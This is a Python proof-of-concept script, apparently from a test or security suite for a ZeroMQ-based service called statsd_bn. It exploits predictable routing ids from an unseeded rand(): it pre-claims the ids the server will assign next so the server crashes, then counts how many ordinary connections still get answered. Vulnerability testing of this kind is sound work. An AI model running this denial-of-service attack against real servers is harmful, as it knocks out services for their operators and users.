"""Claims the routing ids that a server would assign next, then opens ordinary connections; prints how many got answers.

Arguments: an endpoint, and optionally a key file. libzmq counts ids up from `rand()`. If `rand()` is not seeded, the
ids are known, and the server crashes when it assigns a claimed one to an ordinary connection.
"""

import os
import struct
import sys
import time

import zmq

from statsd_bn.keys import load_client
from statsd_bn.messages import StatusRequest
from statsd_bn.wire import encode

# First value of an unseeded `rand()`.
UNSEEDED = 0x6B8B4567

CLAIMED, ORDINARY = 64, 96

# Time for the server to accept all connections.
SECONDS = 2.0

ANSWER_MILLISECONDS = 5000


def main() -> None:
    """Attacks, and prints how many ordinary connections got an answer."""
    context = zmq.Context()
    # Kept in a list, because Python closes a socket without references at once.
    claims = [connect(context, b"\0" + struct.pack(">I", UNSEEDED + number)) for number in range(CLAIMED)]
    time.sleep(SECONDS)
    ordinary = [connect(context) for _ in range(ORDINARY)]
    time.sleep(SECONDS)
    answered = sum(
        bool(socket.poll(ANSWER_MILLISECONDS if number == 0 else 0)) for number, socket in enumerate(ordinary)
    )
    print(f"{answered} of {ORDINARY} answered beside {len(claims)} claims", flush=True)
    # Without cleanup: if the server has ended, each socket would first try to resolve its name for many seconds.
    os._exit(0)


def connect(context: zmq.Context, routing_id: bytes = b"") -> zmq.Socket:
    """Returns a socket that has asked for the server's status."""
    endpoint, *key = sys.argv[1:]
    socket = context.socket(zmq.DEALER)
    if key:
        keys = load_client(key[0])
        socket.curve_serverkey = keys.server.encode()
        socket.curve_publickey = keys.pair.public.encode()
        socket.curve_secretkey = keys.pair.secret.encode()
    if routing_id:
        socket.routing_id = routing_id
    socket.connect(endpoint)
    socket.send(encode(StatusRequest()))
    return socket


if __name__ == "__main__":
    main()
